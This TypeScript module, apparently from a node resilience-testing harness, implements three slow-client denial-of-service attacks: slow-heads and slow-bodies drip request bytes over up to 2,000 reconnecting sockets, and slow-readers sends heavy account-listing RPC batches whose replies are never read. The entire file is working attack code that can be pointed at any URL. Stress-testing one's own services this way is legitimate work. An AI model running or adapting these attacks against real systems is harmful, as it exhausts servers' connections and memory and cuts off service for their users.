/** Clients that take their time: heads and bodies a byte at a time, answers that are never read. */
import type { Socket } from "node:net";
import { type Attack, type Context, pause, type Start } from "../attack.ts";
import { type Opening, openMany } from "./raw-socket.ts";
import { rpcRequest, systemAccountsCalls } from "./reads.ts";

const SLOW = { full: 2_000, small: 20 };
const READERS = { full: 64, small: 4 };
const DRIP_MS = 500;
const BODY_BYTES = 1 << 20;

const head = ({ url }: Context, more: string) => `POST / HTTP/1.1\r\nhost: ${url.host}\r\n${more}`;

/** A byte now and then on each of many connections; those that the network closes are opened again. */
function drips(context: Context, first: string): Start {
  const count = context.small ? SLOW.small : SLOW.full;
  return async (end) => {
    let open: Socket[] = [];
    const opening: Opening = { first: () => first, answered: false };
    while (!end.isOver) {
      open = open.filter((socket) => !socket.destroyed);
      open.push(...(await openMany(context, end, count - open.length, opening)));
      for (const socket of open) if (socket.writable) socket.write("x");
      await Promise.race([pause(DRIP_MS), end.over]);
    }
  };
}

/** Asks for as much as one batch may answer, and reads nothing of it. */
async function readers(context: Context): Promise<Start> {
  const calls = await systemAccountsCalls(context, context.small ? 10 : 150);
  const request = Buffer.from(rpcRequest(context.url, calls)).toString("latin1");
  const count = context.small ? READERS.small : READERS.full;
  return async (end) => {
    const opening: Opening = {
      first: () => request,
      answered: false,
      onOpen: (socket) => socket.pause(),
    };
    await openMany(context, end, count, opening);
    await end.over;
  };
}

export const SLOW_ATTACKS: readonly Attack[] = [
  {
    name: "slow-heads",
    what: "2,000 connections that send the head of a request a byte at a time",
    prepare: async (context) => drips(context, head(context, "x-slow: ")),
  },
  {
    name: "slow-bodies",
    what: "2,000 connections that send the body of a request a byte at a time",
    prepare: async (context) => drips(context, head(context, `content-length: ${BODY_BYTES}\r\n\r\n`)),
  },
  {
    name: "slow-readers",
    what: "64 connections that ask for all accounts 150 times and read nothing",
    prepare: readers,
  },
];
